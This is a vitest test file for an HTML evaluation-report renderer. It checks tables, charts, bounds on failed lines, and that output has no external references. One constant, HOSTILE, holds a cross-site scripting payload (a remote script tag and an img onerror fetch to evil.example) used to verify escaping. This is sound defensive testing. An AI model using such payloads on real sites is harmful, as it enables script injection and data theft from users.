import { describe, expect, it } from 'vitest';
import { evaluateGates, parseGatesInput } from '@llmops/core/evaluate/gates';
import { ERROR_MESSAGE_CHARACTERS, escapeHtml, renderHtmlReport } from '@llmops/core/evaluate/report-html';
import type { EvaluationReport, FailedLine, RunSummary } from '@llmops/core/evaluate/report-model';
import { baseline, current, document, row } from './fixtures.js';

const runs: RunSummary[] = [
  {
    name: 'r0_tickets',
    dataset: 'tickets',
    variants: { summarize: 'variant_0' },
    status: 'Completed',
    lines: { total: 10, completed: 9, failed: 1 },
    tokens: { total: 1200, prompt: 1000, completion: 200 },
    durationMs: 83_400,
    firstError: 'Connection refused',
  },
];

const report: EvaluationReport = {
  metrics: { ...current, env: 'dev' },
  baseline,
  gates: evaluateGates(parseGatesInput('accuracy >= 0.8 on tickets'), current, baseline),
  runs,
  failedLines: [{ run: 'r0_tickets', lineNumber: 3, error: 'Connection refused' }],
  generatedAt: '2026-05-01T12:00:00Z',
};

/** Every tag of the document (`<...>`), and the text between tags. */
function splitMarkup(html: string): { tags: string[]; texts: string[] } {
  const tags = html.match(/<[^>]*>/g) ?? [];
  const texts = html.split(/<[^>]*>/);
  return { tags, texts };
}

const HOSTILE = '<script src="https://evil.example/x.js"></script><img src=x onerror="fetch(\'http://evil.example\')">';

describe('renderHtmlReport', () => {
  it('is deterministic', () => {
    expect(renderHtmlReport(report)).toBe(renderHtmlReport(structuredClone(report)));
  });

  it('shows the experiment, env, baseline, gates, metrics with deltas, charts, runs and failed lines', () => {
    const html = renderHtmlReport(report);
    expect(html).toContain('<title>Evaluation of web_classification (dev)</title>');
    expect(html).toContain('generated 2026-05-01T12:00:00Z');
    expect(html).toContain('<p class="fail">1 of 2 gate checks failed.</p>');
    expect(html).toContain(
      '<tr><td class="fail">fail</td><td><code>accuracy &gt;= 0.8 on tickets</code></td><td>accuracy_eval</td><td>tickets</td><td>summarize=variant_1</td><td class="number">0.78</td><td class="number">0.8</td><td>0.78 is not &gt;= 0.8</td></tr>',
    );
    expect(html).toContain('<h2>accuracy_eval on tickets</h2>');
    expect(html).toContain('<tr><td>summarize=variant_0</td><td>r0_tickets</td><td class="number">0.85<span class="delta">(+0.05)</span></td>');
    expect(html).toContain('<td class="number">0.81<span class="delta">(new)</span></td>');
    // One chart per (evaluator, dataset) and metric: 2 + 2 + 1.
    expect(html.match(/<svg /g)).toHaveLength(5);
    expect(html).toContain('<svg width="700" height="84" viewBox="0 0 700 84" role="img">\n<title>accuracy by variant</title>');
    expect(html).toContain('<text x="252" y="44" text-anchor="end">summarize=variant_0</text><rect class="bar" x="260" y="32" width="320" height="16"/>');
    expect(html).toContain('<line class="baseline" x1="561.2"');
    expect(html).toContain(
      '<tr><td>r0_tickets</td><td>tickets</td><td>summarize=variant_0</td><td class="warn">Completed</td><td class="number">10</td><td class="number">9</td><td class="number">1</td><td class="number">1200 <span class="delta">(1000 prompt, 200 completion)</span></td><td class="number">1m 23.4s</td>',
    );
    expect(html).toContain('<h2>Failed lines (1)</h2>');
    expect(html).toContain('<h3>r0_tickets: 1 failed</h3>');
  });

  it('leaves out what it was not given, and says when there are no metrics', () => {
    const html = renderHtmlReport({ metrics: document([]) });
    expect(html).toContain('no baseline');
    expect(html).toContain('<p>No metrics were recorded.</p>');
    expect(html).not.toContain('generated');
    expect(html).not.toContain('id="gates"');
    expect(html).not.toContain('id="runs"');
  });

  it('labels bars with the nodes whose variant differs, so long selections stay apart', () => {
    const html = renderHtmlReport({
      metrics: document([
        row({ run: 'a', variants: { normalize_the_ticket_text: 'variant_0', classify: 'variant_0' }, metrics: { accuracy: 0.5 } }),
        row({ run: 'b', variants: { normalize_the_ticket_text: 'variant_0', classify: 'variant_1' }, metrics: { accuracy: 0.9 } }),
      ]),
    });
    const labels = [...html.matchAll(/<text x="\d+(?:\.\d)?" y="[\d.]+" text-anchor="end">([^<]*)<\/text>/g)].map((match) => match[1]);
    expect(labels).toEqual(['classify=variant_0', 'classify=variant_1']);
    // The full selection stays in the bar's accessible title.
    expect(html).toContain('<title>normalize_the_ticket_text=variant_0, classify=variant_1: 0.9</title>');
  });

  it('draws negative values from the zero line', () => {
    const html = renderHtmlReport({ metrics: document([row({ variants: { a: 'x' }, metrics: { m: -1 } }), row({ variants: { a: 'y' }, metrics: { m: 1 } })]) });
    expect(html).toContain('<rect class="bar" x="260" y="32" width="160" height="16"/>');
    expect(html).toContain('<rect class="bar" x="420" y="56" width="160" height="16"/>');
  });

  it('escapes every user-controlled text, so names and errors cannot inject markup', () => {
    const hostileRow = row({
      evaluator: HOSTILE,
      dataset: `${HOSTILE}"'&`,
      run: HOSTILE,
      variants: { [HOSTILE]: HOSTILE },
      metrics: { [HOSTILE]: 1 },
    });
    const hostileDoc = document([hostileRow], { experiment: HOSTILE, env: HOSTILE });
    const html = renderHtmlReport({
      metrics: hostileDoc,
      baseline: hostileDoc,
      gates: evaluateGates(parseGatesInput(`x >= 1 on ${'<b>'}`), hostileDoc),
      runs: [{ ...runs[0]!, name: HOSTILE, dataset: HOSTILE, variants: { [HOSTILE]: HOSTILE }, status: HOSTILE, firstError: HOSTILE }],
      failedLines: [{ run: HOSTILE, lineNumber: 1, error: HOSTILE }],
      generatedAt: HOSTILE,
    });
    expect(html).not.toContain('<script');
    expect(html).not.toContain('<img');
    expect(html).not.toContain('<b>');
    expect(html).toContain(escapeHtml(HOSTILE));
    expect(html).toContain('&quot;&#39;&amp;');
    const { tags } = splitMarkup(html);
    const tagNames = new Set(tags.map((tag) => /^<\/?([a-zA-Z!][a-zA-Z0-9]*)/.exec(tag)?.[1]?.toLowerCase()));
    expect([...tagNames].sort()).toEqual(
      ['!doctype', 'body', 'code', 'figure', 'g', 'h1', 'h2', 'h3', 'head', 'html', 'line', 'meta', 'p', 'rect', 'section', 'span', 'strong', 'style', 'svg', 'table', 'tbody', 'td', 'text', 'th', 'thead', 'title', 'tr', 'tspan'].sort(),
    );
  });

  it('references nothing outside itself: no http(s) URL except inside escaped text', () => {
    const html = renderHtmlReport({
      ...report,
      metrics: document([row({ dataset: 'https://evil.example/data', metrics: { 'see http://x.example': 1 } })]),
      failedLines: [{ run: 'r', lineNumber: 1, error: 'GET https://api.example/v1 failed' }],
    });
    const { tags, texts } = splitMarkup(html);
    for (const tag of tags) {
      expect(tag).not.toMatch(/https?:|\/\/|url\(|src=|href=/i);
    }
    const style = /<style>([\s\S]*?)<\/style>/.exec(html)![1]!;
    expect(style).not.toMatch(/url\(|@import|https?:/i);
    // The URLs are still shown, as text.
    expect(texts.join('')).toContain('https://evil.example/data');
    expect(texts.join('')).toContain('GET https://api.example/v1 failed');
    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'">`);
  });

  it('bounds failed lines per run and in all, and cuts long errors', () => {
    const many: FailedLine[] = [];
    for (let run = 0; run < 12; run++) {
      for (let line = 30; line > 0; line--) many.push({ run: `run${run}`, lineNumber: line, error: `error ${'x'.repeat(5000)}` });
    }
    const html = renderHtmlReport({ metrics: document([]), failedLines: many });
    expect(html).toContain('<h2>Failed lines (360)</h2>');
    expect(html.match(/<tr><td class="number">/g)).toHaveLength(200);
    expect(html).toContain('<h3>run0: 30 failed</h3>');
    expect(html).toContain('10 more failed lines of this run are not shown');
    expect(html).toContain('<h3>run11: 30 failed</h3>');
    expect(html).toContain('30 more failed lines of this run are not shown');
    // Sorted by line number within a run.
    expect(html.indexOf('<td class="number">1</td>')).toBeLessThan(html.indexOf('<td class="number">2</td>'));
    const longest = Math.max(...[...html.matchAll(/<span class="error">([^<]*)<\/span>/g)].map((match) => [...match[1]!].length));
    expect(longest).toBe(ERROR_MESSAGE_CHARACTERS);
  });
});
